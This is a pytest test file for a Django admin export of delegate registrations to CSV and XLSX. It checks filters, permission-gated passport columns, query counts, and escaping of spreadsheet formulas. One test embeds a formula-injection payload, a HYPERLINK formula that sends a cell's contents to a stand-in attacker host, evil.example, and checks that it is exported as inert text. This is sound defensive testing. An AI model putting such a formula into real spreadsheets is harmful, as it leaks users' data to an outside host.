"""The registrations export from the admin: the list's filters, cells that
cannot run as formulas, passports only for those allowed, flat query counts."""

import csv
import datetime
import io
import zoneinfo

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from delegates.exports import neutralise
from delegates.models import Registration
from tests.factories import (
    DelegateFactory,
    DelegationFactory,
    MeetingFactory,
    MemberStateFactory,
    RegistrationFactory,
    SessionFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db
Status = Registration.Status
WITA = zoneinfo.ZoneInfo("Asia/Makassar")
PASSPORT = "C7754321"
HEADER = [
    "Reference",
    "Status",
    "Party",
    "Kind of party",
    "Role",
    "Honorific",
    "Given name",
    "Family name",
    "Position",
    "Agency or ministry",
    "Email",
    "Phone",
    "Nationality (ISO alpha-3)",
    "Sessions",
    "Needs a letter of invitation for a visa",
    "Arrival",
    "Departure",
    "Dietary requirements",
    "Accessibility needs",
    "Focal point's endorsement",
    "Submitted at",
    "Decided at",
]
FORMATS = ["csv", "xlsx"]


def export_url(file_format):
    return reverse("admin:delegates_registration_export", args=[file_format])


def read(response):
    """The export's rows as lists of strings (None for an empty XLSX cell)."""
    assert response.status_code == 200
    if response["Content-Type"].startswith("text/csv"):
        text = b"".join(response.streaming_content).decode("utf-8")
        assert text.startswith("\ufeff")
        return list(csv.reader(io.StringIO(text[1:])))
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def export(client, file_format, **params):
    return read(client.get(export_url(file_format), params))


def staff_user(*codenames):
    user = UserFactory(is_staff=True)
    user.user_permissions.set(
        Permission.objects.filter(
            content_type__app_label="delegates", codename__in=codenames
        )
    )
    return user


@pytest.fixture
def approved():
    meeting = MeetingFactory(slug="jwg-11")
    morning = SessionFactory(
        meeting=meeting,
        title="JWG plenary",
        starts_at=datetime.datetime(2024, 4, 30, 9, tzinfo=WITA),
    )
    workshop = SessionFactory(
        meeting=meeting,
        title="ASEAN-IGF Workshop",
        starts_at=datetime.datetime(2024, 4, 29, 9, tzinfo=WITA),
    )
    registration = RegistrationFactory(
        delegation=DelegationFactory(meeting=meeting, party=MemberStateFactory()),
        reference="JWG11-MYS-001",
        role=Registration.Role.HEAD,
        needs_visa_letter=True,
        arrival_date=datetime.date(2024, 4, 28),
        decided_at=datetime.datetime(2024, 4, 1, 2, 30, tzinfo=datetime.UTC),
        delegate=DelegateFactory(
            honorific="Dr",
            given_name="Thị Hương",
            family_name="Nguyễn",
            email="huong@example.org",
            phone="+60 3 8000 8000",
            nationality="MYS",
            passport_number=PASSPORT,
            passport_expiry=datetime.date(2031, 7, 9),
        ),
    )
    registration.sessions.set([morning, workshop])
    Registration.objects.filter(pk=registration.pk).update(
        created_at=datetime.datetime(2024, 3, 15, 1, 0, tzinfo=datetime.UTC)
    )
    return registration


@pytest.mark.parametrize("file_format", FORMATS)
def test_export_has_the_header_and_one_row_per_registration(
    staff_client, approved, file_format
):
    header, row = export(staff_client, file_format)
    assert header == [*HEADER, "Passport number", "Passport expiry"]
    values = dict(zip(header, row, strict=True))
    arrival = values["Arrival"]
    if file_format == "xlsx":
        assert arrival == datetime.datetime(2024, 4, 28)
        assert values["Departure"] is None
    else:
        assert arrival == "2024-04-28"
        assert values["Departure"] == ""
    assert values["Reference"] == "JWG11-MYS-001"
    assert values["Status"] == "Approved"
    assert values["Party"] == "Malaysia"
    assert values["Kind of party"] == "ASEAN Member State"
    assert values["Role"] == "Head of Delegation"
    assert (values["Given name"], values["Family name"]) == ("Thị Hương", "Nguyễn")
    assert values["Phone"] == "'+60 3 8000 8000"
    assert values["Sessions"] == "ASEAN-IGF Workshop; JWG plenary"
    assert values["Needs a letter of invitation for a visa"] == "yes"
    assert values["Submitted at"] == "2024-03-15T09:00:00+08:00"
    assert values["Decided at"] == "2024-04-01T10:30:00+08:00"
    assert values["Passport number"] == PASSPORT


@pytest.mark.parametrize("file_format", FORMATS)
def test_export_takes_the_changelist_filters_and_search(
    staff_client, approved, file_format
):
    pending = RegistrationFactory(delegation=approved.delegation, status=Status.PENDING)
    elsewhere = RegistrationFactory(status=Status.PENDING)

    def references(**params):
        return {row[0] for row in export(staff_client, file_format, **params)[1:]}

    assert references() == {approved.reference, pending.reference, elsewhere.reference}
    assert references(status__exact="approved") == {approved.reference}
    assert references(
        status__exact="pending", meeting__id__exact=approved.meeting_id
    ) == {pending.reference}
    assert references(q="Nguyễn") == {approved.reference}
    assert references(q="Nobody") == set()


@pytest.mark.parametrize("file_format", FORMATS)
def test_a_formula_in_a_name_is_exported_as_text(staff_client, file_format):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    RegistrationFactory(
        delegate=DelegateFactory(family_name=formula, agency="@SUM(1+1)")
    )
    row = dict(zip(HEADER, export(staff_client, file_format)[1], strict=False))
    assert row["Family name"] == "'" + formula
    assert row["Agency or ministry"] == "'@SUM(1+1)"


def test_xlsx_cells_that_look_like_formulas_are_stored_as_strings(staff_client):
    RegistrationFactory(delegate=DelegateFactory(family_name="=1+2"))
    response = staff_client.get(export_url("xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cell = sheet.cell(row=2, column=HEADER.index("Family name") + 1)
    assert (cell.value, cell.data_type) == ("'=1+2", "s")


def test_xlsx_drops_characters_a_workbook_cannot_hold(staff_client):
    RegistrationFactory(delegate=DelegateFactory(family_name="Rah\x1bman\x07"))
    row = export(staff_client, "xlsx")[1]
    assert row[HEADER.index("Family name")] == "Rahman"


# The control characters XML 1.0 cannot carry (below the space, but tab, LF
# and CR), less NUL, which PostgreSQL cannot store either.
CONTROL_CHARACTERS = "".join(chr(c) for c in range(1, 32) if chr(c) not in "\t\n\r")


def test_xlsx_drops_every_control_character_a_workbook_cannot_hold(staff_client):
    RegistrationFactory(
        delegate=DelegateFactory(family_name=f"Rah{CONTROL_CHARACTERS}man")
    )
    row = export(staff_client, "xlsx")[1]
    assert row[HEADER.index("Family name")] == "Rahman"


def test_xlsx_keeps_characters_that_are_not_printable_but_allowed(staff_client):
    """A no-break space, a soft hyphen, a zero-width joiner and a tab are not
    printable, yet a workbook holds them: they are kept as written."""
    name = "Maria\u00a0Lu\u00adisa\u200dde\tSantos"
    RegistrationFactory(delegate=DelegateFactory(family_name=name))
    row = export(staff_client, "xlsx")[1]
    assert row[HEADER.index("Family name")] == name


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+62 361", "'+62 361"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Nguyễn", "Nguyễn"),
        ("a=1", "a=1"),
        ("", ""),
        (-2, -2),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


@pytest.mark.parametrize("file_format", FORMATS)
def test_passports_are_left_out_without_the_permission(client, approved, file_format):
    client.force_login(staff_user("view_registration"))
    response = client.get(export_url(file_format))
    header, row = read(response)
    assert header == HEADER
    assert PASSPORT not in row
    assert "2031-07-09" not in [str(value) for value in row]


@pytest.mark.parametrize("file_format", FORMATS)
def test_passports_are_exported_for_those_allowed(client, approved, file_format):
    client.force_login(staff_user("view_registration", "view_passport"))
    header, row = export(client, file_format)
    assert header[-2:] == ["Passport number", "Passport expiry"]
    assert row[-2] == PASSPORT
    assert str(row[-1]).startswith("2031-07-09")


def test_xlsx_header_is_bold_frozen_and_the_columns_sized(staff_client, approved):
    response = staff_client.get(export_url("xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert not sheet["A2"].font.bold
    assert sheet.column_dimensions["K"].width == 30  # email
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )


@pytest.mark.parametrize("file_format", FORMATS)
def test_export_is_never_cached_and_named_after_the_meeting(
    staff_client, approved, file_format
):
    RegistrationFactory()
    one = staff_client.get(
        export_url(file_format), {"meeting__id__exact": approved.meeting_id}
    )
    assert "no-store" in one["Cache-Control"]
    assert one["Content-Disposition"] == (
        f'attachment; filename="registrations-jwg-11.{file_format}"'
    )
    every = staff_client.get(export_url(file_format))
    assert every["Content-Disposition"] == (
        f'attachment; filename="registrations.{file_format}"'
    )


def export_queries(client, file_format):
    with CaptureQueriesContext(connection) as queries:
        rows = export(client, file_format)
    assert len(rows) == Registration.objects.count() + 1
    return len(queries)


def make_registrations(count):
    for registration in RegistrationFactory.create_batch(
        count, delegation=DelegationFactory(party=MemberStateFactory())
    ):
        registration.sessions.add(
            *SessionFactory.create_batch(2, meeting=registration.meeting)
        )


@pytest.mark.parametrize("file_format", FORMATS)
def test_export_query_count_does_not_grow_with_rows(staff_client, file_format):
    make_registrations(5)
    with_five = export_queries(staff_client, file_format)
    make_registrations(45)
    assert export_queries(staff_client, file_format) == with_five


def test_export_needs_the_view_permission(client, approved):
    client.force_login(staff_user("view_delegate"))
    assert client.get(export_url("csv")).status_code == 403
    assert client.get(export_url("xlsx")).status_code == 403


def test_unknown_export_format_is_404(staff_client):
    assert staff_client.get(export_url("pdf")).status_code == 404


def test_export_with_a_broken_filter_returns_to_the_list(staff_client):
    response = staff_client.get(export_url("csv"), {"no_such_field": "1"})
    assert response.status_code == 302
    assert response.url == reverse("admin:delegates_registration_changelist") + "?e=1"


def test_changelist_links_to_the_exports_with_its_filters(staff_client, approved):
    response = staff_client.get(
        reverse("admin:delegates_registration_changelist"),
        {"status__exact": "approved"},
    )
    assert f'href="{export_url("csv")}?status__exact=approved"' in response.text
    assert f'href="{export_url("xlsx")}?status__exact=approved"' in response.text
